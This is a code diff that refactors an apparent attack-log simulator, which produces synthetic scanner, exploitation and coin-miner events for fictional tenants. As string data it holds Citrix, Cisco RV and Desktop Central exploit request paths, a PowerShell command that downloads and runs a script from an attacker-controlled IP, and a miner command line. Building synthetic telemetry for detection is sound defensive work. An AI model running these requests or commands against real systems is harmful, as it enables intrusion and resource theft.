@@ -37,12 +37,6 @@ enum citrix_style { CS_CHECK, CS_NOTROBIN, CS_MINER, CS_ENCODED, CS_COUNT };
 static const char *const style_kind[CS_COUNT] = { "research-scanner", "notrobin", "miner",
                                                   "exploit-kit" };
 
-typedef struct scanner_plan {
-    uint32_t idx;       /* index in c->scanners */
-    int style;          /* citrix style, or -1 */
-    int64_t from, to;   /* active window */
-} scanner_plan;
-
 static uint32_t new_scanner(sim_ctx *c, sim_rng *r, const char *kind, int cve)
 {
     sim_scanner *s = &c->scanners[c->nscanners];
@@ -75,21 +69,20 @@ static void zeek_inbound(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, sim_
 
 /* One scanner visit to a Citrix tenant; returns the time of the last
  * request and whether the template ran. */
-static bool citrix_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, const scanner_plan *sp,
-                        int64_t ts)
+static bool citrix_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
 {
-    const sim_scanner *s = &c->scanners[sp->idx];
+    const sim_scanner *s = &c->scanners[idx];
     uint16_t st = sim_citrix_status(t, ts, 200);
     int stage = st == 200 ? ST_EXPLOITED : ST_TARGETED;
-    zeek_inbound(c, t, r, ts, scan_mark(CVE_CITRIX, ST_TARGETED, sp->idx), s->ip, t->vip, 443);
+    zeek_inbound(c, t, r, ts, scan_mark(CVE_CITRIX, ST_TARGETED, idx), s->ip, t->vip, 443);
     const char *post = NULL, *xml = NULL;
-    switch (sp->style) {
+    switch (s->style) {
     case CS_CHECK:
-        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, sp->idx), s->ip, "GET",
+        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "GET",
                    "/vpn/../vpns/cfg/smb.conf", st, st == 200 ? 1284 : 563, s->ua);
         return false;
     case CS_ENCODED:
-        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, sp->idx), s->ip, "GET",
+        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "GET",
                    sim_chance(r, 0.5) ? "/vpn/%2E%2E/vpns/cfg/smb.conf"
                                       : "/vpn/..%2Fvpns/cfg/smb.conf",
                    st, st == 200 ? 1284 : 563, s->ua);
@@ -107,12 +100,12 @@ static bool citrix_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, const scanner_pla
         xml = sim_strf(c, "/vpn/../vpns/portal/%s.xml", sim_rand_name(c, r, 12));
         break;
     }
-    sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, sp->idx), s->ip, "POST",
+    sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "POST",
                post, st, st == 200 ? 130 + sim_below(r, 60) : 563, s->ua);
     ts += secs(r, 0.5, 4);
     st = st == 200 ? sim_citrix_status(t, ts, 200) : st;
     sim_ev *e = sim_web_ev(c, t, SS_CITRIX_WEB, ts,
-                           scan_mark(CVE_CITRIX, st == 200 ? ST_EXPLOITED : ST_TARGETED, sp->idx),
+                           scan_mark(CVE_CITRIX, st == 200 ? ST_EXPLOITED : ST_TARGETED, idx),
                            s->ip, sim_chance(r, 0.2) ? "HEAD" : "GET", xml, st,
                            st == 200 ? 200 + sim_below(r, 600) : 563, s->ua);
     e->u.web.time_us = 50000 + sim_below(r, 150000);
@@ -145,80 +138,81 @@ static void citrix_takeover(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t who,
     e->u.net.dur_us = 1800000;
 }
 
-static void plan_citrix_scanners(sim_ctx *c, sim_rng *r, uint32_t n)
+/* Scanners and other actors: who they are and when they are active. */
+static void plan_scanners(sim_ctx *c, sim_rng *r, uint32_t nx, uint32_t nr, uint32_t nz)
 {
     int64_t a = sim_date(2020, 1, 10), b = sim_date(2020, 3, 17);
-    int64_t from = c->from > a ? c->from : a, to = c->to < b + 5 * SIM_DAY ? c->to : b;
-    if (to <= from)
-        return;
-    sim_tenant *victim = NULL;
-    /* another actor's real compromise: a vulnerable, visible, non-APT41 tenant */
-    for (uint32_t i = 0; i < c->nt && !victim; i++) {
-        sim_tenant *t = &c->t[i];
-        if (t->citrix && !t->role[CVE_CITRIX] && t->log_citrix && t->zeek &&
-            t->citrix_fixed > sim_date(2020, 1, 24))
-            victim = t;
-    }
-    for (uint32_t k = 0; k < n; k++) {
-        scanner_plan sp;
-        sp.style = (int)(k % CS_COUNT);
-        sp.idx = new_scanner(c, r, style_kind[sp.style], CVE_CITRIX);
-        sp.from = between(r, from, to - SIM_DAY);
-        sp.to = sp.from + SIM_DAY + (int64_t)(sim_f64(r) * 25 * 86400e9);
-        double p = 0.15 + sim_f64(r) * 0.4;
-        for (uint32_t i = 0; i < c->nt; i++) {
-            sim_tenant *t = &c->t[i];
-            if (!t->citrix || !sim_chance(r, p))
-                continue;
-            int visits = 1 + (int)sim_below(r, 3);
-            for (int v = 0; v < visits; v++)
-                citrix_scan(c, t, r, &sp, between(r, sp.from, sp.to));
+    int64_t from = c->from > a ? c->from : a, to = c->to < b ? c->to : b;
+    if (to < from + 2 * SIM_DAY)
+        to = from + 2 * SIM_DAY;
+    c->takeover_tenant = c->miner_tenant = UINT32_MAX;
+    for (uint32_t k = 0; k < nx; k++) {
+        int style = (int)(k % CS_COUNT);
+        sim_scanner *s = &c->scanners[new_scanner(c, r, style_kind[style], CVE_CITRIX)];
+        s->style = style;
+        s->from = between(r, from, to - SIM_DAY);
+        s->to = s->from + SIM_DAY + (int64_t)(sim_f64(r) * 25 * 86400e9);
+        s->p = 0.15 + sim_f64(r) * 0.4;
+        if (style == CS_NOTROBIN && c->takeover_tenant == UINT32_MAX) {
+            /* another actor's real compromise: a vulnerable, visible, untargeted tenant */
+            for (uint32_t i = 0; i < c->nt; i++) {
+                sim_tenant *t = &c->t[i];
+                if (t->citrix && !t->role[CVE_CITRIX] && t->log_citrix && t->zeek &&
+                    t->citrix_fixed > sim_date(2020, 1, 24)) {
+                    c->takeover_tenant = i;
+                    c->takeover_by = (uint32_t)(s - c->scanners);
+                    break;
+                }
+            }
         }
-        if (victim && sp.style == CS_NOTROBIN) {
-            int64_t ts = between(r, sim_date(2020, 1, 12), sim_date(2020, 1, 23));
-            if (citrix_scan(c, victim, r, &sp, ts))
-                citrix_takeover(c, victim, r, sp.idx, ts + secs(r, 3, 8));
-            victim = NULL;
+    }
+    for (uint32_t k = 0; k < nr; k++) {
+        sim_scanner *s =
+            &c->scanners[new_scanner(c, r, k % 2 ? "research-scanner" : "botnet", CVE_RV_1653)];
+        s->from = between(r, c->from, c->to - 2 * SIM_DAY);
+        s->to = TR_MIN(c->to, s->from + 2 * SIM_DAY + (int64_t)(sim_f64(r) * 40 * 86400e9));
+        s->p = 0.5;
+    }
+    for (uint32_t k = 0; k < nz; k++) {
+        sim_scanner *s =
+            &c->scanners[new_scanner(c, r, k == 0 ? "miner" : "research-scanner", CVE_ZOHO)];
+        s->from = sim_date(2020, 3, 6); /* the day after the public PoC */
+        s->to = c->to;
+        s->p = 0.5;
+        if (k == 0) {
+            for (uint32_t i = 0; i < c->nt; i++) {
+                sim_tenant *t = &c->t[i];
+                if (t->dc && !t->role[CVE_ZOHO] && t->log_dc && t->log_sysmon &&
+                    t->dc_fixed > sim_date(2020, 3, 10)) {
+                    c->miner_tenant = i;
+                    c->miner_by = (uint32_t)(s - c->scanners);
+                    break;
+                }
+            }
         }
     }
 }
 
-static void plan_cisco_scanners(sim_ctx *c, sim_rng *r, uint32_t n)
+static void cisco_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
 {
-    for (uint32_t k = 0; k < n; k++) {
-        uint32_t idx = new_scanner(c, r, k % 2 ? "research-scanner" : "botnet", CVE_RV_1653);
-        const sim_scanner *s = &c->scanners[idx];
-        int64_t from = between(r, c->from, c->to - 2 * SIM_DAY);
-        int64_t to = from + 2 * SIM_DAY + (int64_t)(sim_f64(r) * 40 * 86400e9);
-        if (to > c->to)
-            to = c->to;
-        for (uint32_t i = 0; i < c->nt; i++) {
-            sim_tenant *t = &c->t[i];
-            if (!t->cisco || !sim_chance(r, 0.5))
-                continue;
-            int visits = 1 + (int)sim_below(r, 4);
-            for (int v = 0; v < visits; v++) {
-                int64_t ts = between(r, from, to);
-                bool ok = t->cisco_vuln;
-                sim_ev *e = sim_net_ev(c, t, SS_EVE, ts,
-                                       scan_mark(CVE_RV_1653, ok ? ST_EXPLOITED : ST_TARGETED, idx),
-                                       APP_HTTP, s->ip, sim_eport(r), t->wan, 8007);
-                sim_net *nt = &e->u.net;
-                nt->method = "GET";
-                nt->uri = sim_chance(r, 0.85) ? "/cgi-bin/config.exp" : "/cgi-bin/config.exp?";
-                nt->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
-                                    (t->wan >> 8) & 255, t->wan & 255);
-                nt->ua = s->ua;
-                nt->status = ok ? 200 : t->cisco_block;
-                nt->resp_len = ok ? 18000 + sim_below(r, 9000) : 345;
-                nt->mime = ok ? "text/plain" : "text/html";
-                nt->ob = 200;
-                nt->rb = nt->resp_len + 220;
-                nt->sid = 2033089;
-                nt->sid2 = ok ? 2033090 : 0;
-            }
-        }
-    }
+    const sim_scanner *s = &c->scanners[idx];
+    bool ok = t->cisco_vuln;
+    sim_ev *e = sim_net_ev(c, t, SS_EVE, ts,
+                           scan_mark(CVE_RV_1653, ok ? ST_EXPLOITED : ST_TARGETED, idx), APP_HTTP,
+                           s->ip, sim_eport(r), t->wan, 8007);
+    sim_net *nt = &e->u.net;
+    nt->method = "GET";
+    nt->uri = sim_chance(r, 0.85) ? "/cgi-bin/config.exp" : "/cgi-bin/config.exp?";
+    nt->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
+                        (t->wan >> 8) & 255, t->wan & 255);
+    nt->ua = s->ua;
+    nt->status = ok ? 200 : t->cisco_block;
+    nt->resp_len = ok ? 18000 + sim_below(r, 9000) : 345;
+    nt->mime = ok ? "text/plain" : "text/html";
+    nt->ob = 200;
+    nt->rb = nt->resp_len + 220;
+    nt->sid = 2033089;
+    nt->sid2 = ok ? 2033090 : 0;
 }
 
 static const char *const dc_exploit_uris[] = {
@@ -230,79 +224,93 @@ static const char *const dc_exploit_uris[] = {
     "&filename=img.zip",
 };
 
-static void plan_zoho_scanners(sim_ctx *c, sim_rng *r, uint32_t n)
+/* A coin miner through the Desktop Central hole. */
+static void miner_takeover(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
 {
-    int64_t from = sim_date(2020, 3, 6); /* the day after the public PoC */
-    if (c->to <= from + SIM_DAY)
-        return;
-    sim_tenant *victim = NULL;
-    for (uint32_t i = 0; i < c->nt && !victim; i++) {
-        sim_tenant *t = &c->t[i];
-        if (t->dc && !t->role[CVE_ZOHO] && t->log_dc && t->log_sysmon &&
-            t->dc_fixed > sim_date(2020, 3, 10))
-            victim = t;
-    }
-    for (uint32_t k = 0; k < n; k++) {
-        uint32_t idx = new_scanner(c, r, k == 0 ? "miner" : "research-scanner", CVE_ZOHO);
-        const sim_scanner *s = &c->scanners[idx];
-        for (uint32_t i = 0; i < c->nt; i++) {
-            sim_tenant *t = &c->t[i];
-            bool take = victim == t && k == 0;
-            if (!t->dc || (!take && !sim_chance(r, 0.5)))
-                continue;
-            int64_t ts = take ? between(r, sim_date(2020, 3, 7), sim_date(2020, 3, 10))
-                              : between(r, from, c->to);
-            uint16_t st = sim_dc_status(t, ts, 200);
-            const char *uri = SIM_PICK(r, dc_exploit_uris);
-            sim_web_ev(c, t, SS_DC_WEB, ts, scan_mark(CVE_ZOHO, ST_TARGETED, idx), s->ip, "POST",
-                       uri, st, st == 200 ? 0 : 1022, s->ua);
-            ts += secs(r, 1, 4);
-            sim_web_ev(c, t, SS_DC_WEB, ts,
-                       scan_mark(CVE_ZOHO, st == 200 ? ST_EXPLOITED : ST_TARGETED, idx), s->ip,
-                       "GET", strstr(uri, "img.zip") ? "/cewolf/?img=/img.zip"
-                                                     : "/cewolf/?img=%5Clogger.zip",
-                       st, st == 200 ? 0 : 1022, s->ua);
-            if (!take || st != 200)
-                continue;
-            /* a coin miner through the same hole */
-            char ip[16];
-            sim_ip_str(s->ip, ip);
-            sim_mark m = scan_mark(CVE_ZOHO, ST_COMPROMISED, idx);
-            const char *java = t->java;
-            const char *ps = sim_strf(c, "powershell -nop -c \"IEX (New-Object "
-                                         "Net.WebClient).DownloadString('http://%s:8080/xm.ps1')\"",
-                                      ip);
-            const char *psimg = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-            uint32_t pid = sim_proc(c, t, ts + secs(r, 1, 3), m, psimg, ps, t->pid_java, java,
-                                    t->java_cmd, "NT AUTHORITY\\SYSTEM", NULL);
-            sim_ev *e = sim_sm_ev(c, t, ts + secs(r, 4, 6), m, 3);
-            e->u.sm.pid = pid;
-            e->u.sm.image = psimg;
-            e->u.sm.user = "NT AUTHORITY\\SYSTEM";
-            e->u.sm.sip = t->dc_lan;
-            e->u.sm.sport = sim_eport(r);
-            e->u.sm.dip = s->ip;
-            e->u.sm.dport = 8080;
-            e->u.sm.initiated = true;
-            sim_proc(c, t, ts + secs(r, 8, 12), m, "C:\\Windows\\Temp\\svchosts.exe",
-                     "C:\\Windows\\Temp\\svchosts.exe -o stratum+tcp://pool.minexmr.com:4444 -k",
-                     pid, psimg, ps, "NT AUTHORITY\\SYSTEM", NULL);
-            victim = NULL;
+    const sim_scanner *s = &c->scanners[idx];
+    char ip[16];
+    sim_ip_str(s->ip, ip);
+    sim_mark m = scan_mark(CVE_ZOHO, ST_COMPROMISED, idx);
+    const char *ps = sim_strf(c, "powershell -nop -c \"IEX (New-Object "
+                                 "Net.WebClient).DownloadString('http://%s:8080/xm.ps1')\"",
+                              ip);
+    const char *psimg = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    uint32_t pid = sim_proc(c, t, ts + secs(r, 1, 3), m, psimg, ps, t->pid_java, t->java,
+                            t->java_cmd, "NT AUTHORITY\\SYSTEM", NULL);
+    sim_ev *e = sim_sm_ev(c, t, ts + secs(r, 4, 6), m, 3);
+    e->u.sm.pid = pid;
+    e->u.sm.image = psimg;
+    e->u.sm.user = "NT AUTHORITY\\SYSTEM";
+    e->u.sm.sip = t->dc_lan;
+    e->u.sm.sport = sim_eport(r);
+    e->u.sm.dip = s->ip;
+    e->u.sm.dport = 8080;
+    e->u.sm.initiated = true;
+    sim_proc(c, t, ts + secs(r, 8, 12), m, "C:\\Windows\\Temp\\svchosts.exe",
+             "C:\\Windows\\Temp\\svchosts.exe -o stratum+tcp://pool.minexmr.com:4444 -k", pid,
+             psimg, ps, "NT AUTHORITY\\SYSTEM", NULL);
+}
+
+static bool zoho_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
+{
+    const sim_scanner *s = &c->scanners[idx];
+    uint16_t st = sim_dc_status(t, ts, 200);
+    const char *uri = SIM_PICK(r, dc_exploit_uris);
+    sim_web_ev(c, t, SS_DC_WEB, ts, scan_mark(CVE_ZOHO, ST_TARGETED, idx), s->ip, "POST", uri, st,
+               st == 200 ? 0 : 1022, s->ua);
+    ts += secs(r, 1, 4);
+    sim_web_ev(c, t, SS_DC_WEB, ts, scan_mark(CVE_ZOHO, st == 200 ? ST_EXPLOITED : ST_TARGETED, idx),
+               s->ip, "GET",
+               strstr(uri, "img.zip") ? "/cewolf/?img=/img.zip" : "/cewolf/?img=%5Clogger.zip", st,
+               st == 200 ? 0 : 1022, s->ua);
+    return st == 200;
+}
+
+/* Every scanner's visits to one tenant. */
+static void tenant_scans(sim_ctx *c, sim_tenant *t, sim_rng *r)
+{
+    for (uint32_t k = 0; k < c->nscanners; k++) {
+        const sim_scanner *s = &c->scanners[k];
+        int cve = s->cves[0];
+        bool runs = cve == CVE_CITRIX ? t->citrix : cve == CVE_ZOHO ? t->dc : t->cisco;
+        bool take = (t->idx == c->takeover_tenant && k == c->takeover_by) ||
+                    (t->idx == c->miner_tenant && k == c->miner_by);
+        double roll = sim_f64(r);
+        if (!runs || (!take && roll >= s->p))
+            continue;
+        int visits = 1 + (int)sim_below(r, cve == CVE_RV_1653 ? 4 : cve == CVE_CITRIX ? 3 : 1);
+        for (int v = 0; v < visits; v++) {
+            int64_t ts = between(r, s->from, s->to);
+            if (cve == CVE_CITRIX)
+                citrix_scan(c, t, r, k, ts);
+            else if (cve == CVE_RV_1653)
+                cisco_scan(c, t, r, k, ts);
+            else
+                zoho_scan(c, t, r, k, ts);
+        }
+        if (take && cve == CVE_CITRIX) {
+            int64_t ts = between(r, sim_date(2020, 1, 12), sim_date(2020, 1, 23));
+            if (citrix_scan(c, t, r, k, ts))
+                citrix_takeover(c, t, r, k, ts + secs(r, 3, 8));
+        } else if (take) {
+            int64_t ts = between(r, sim_date(2020, 3, 7), sim_date(2020, 3, 10));
+            if (zoho_scan(c, t, r, k, ts))
+                miner_takeover(c, t, r, k, ts + secs(r, 1, 4));
         }
     }
 }
 
 /* The provider's own external vulnerability scan: every Monday it probes
  * every tenant's appliances, CVE checks included. */
-static void plan_service(sim_ctx *c, sim_rng *r)
+static void tenant_service(sim_ctx *c, sim_tenant *t, sim_rng *r)
 {
     uint32_t ip = c->service_ip;
     const char *ua = "Mozilla/5.0 (compatible; PerimeterScan/4.1; +https://scan.mssp.example/)";
     sim_mark mk = sim_mk(ACT_SERVICE, CVE_NONE, ST_NONE, 0);
+    uint32_t i = t->idx;
     for (int64_t week = sim_date(2020, 1, 13) + 3 * SIM_HOUR; week < c->to; week += 7 * SIM_DAY) {
-        for (uint32_t i = 0; i < c->nt; i++) {
-            sim_tenant *t = &c->t[i];
-            int64_t ts = week + (int64_t)i * 41 * SIM_NS + secs(r, 0, 20);
+        {
+            int64_t ts = week + (int64_t)(i % 300) * 41 * SIM_NS + secs(r, 0, 20);
             if (t->citrix) {
                 uint16_t st = sim_citrix_status(t, ts, 200);
                 sim_mark m = sim_mk(ACT_SERVICE, CVE_CITRIX, st == 200 ? ST_EXPLOITED
@@ -361,15 +369,14 @@ static bool office_hour(const sim_tenant *t, int64_t ts)
     return h >= 7 && h < 19 && wd != 0 && wd != 6;
 }
 
-static void plan_lookalikes(sim_ctx *c, sim_rng *r)
+static void tenant_lookalikes(sim_ctx *c, sim_tenant *t, sim_rng *r)
 {
     static const char *const users[] = { "jsmith", "a.tanaka", "mrossi", "kdubois", "p.nair",
                                          "lsantos", "hweber", "e.virtanen", "tquinn", "s.haddad" };
     static const char *const bua =
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/79.0.3945.130 Safari/537.36";
-    for (uint32_t i = 0; i < c->nt; i++) {
-        sim_tenant *t = &c->t[i];
+    {
         sim_rng ur;
         sim_rng_init(&ur, t->pool_seed);
         if (t->citrix) {
@@ -522,10 +529,16 @@ tr_err sim_plan_noise(sim_ctx *c, sim_rng *r)
     c->service_ip = sim_fresh_ip(c, r);
     c->monitor_ip = sim_fresh_ip(c, r);
     c->mssp_ip = sim_fresh_ip(c, r);
-    plan_citrix_scanners(c, r, nx);
-    plan_cisco_scanners(c, r, nr);
-    plan_zoho_scanners(c, r, nz);
-    plan_service(c, r);
-    plan_lookalikes(c, r);
+    plan_scanners(c, r, nx, nr, nz);
+    return c->oom ? TR_ENOMEM : TR_OK;
+}
+
+tr_err sim_tenant_noise(sim_ctx *c, sim_tenant *t)
+{
+    sim_rng r;
+    sim_rng_init(&r, sim_seed_mix(c->o.seed, (uint64_t)t->idx + 1, 0x2015E));
+    tenant_scans(c, t, &r);
+    tenant_service(c, t, &r);
+    tenant_lookalikes(c, t, &r);
     return c->oom ? TR_ENOMEM : TR_OK;
 }
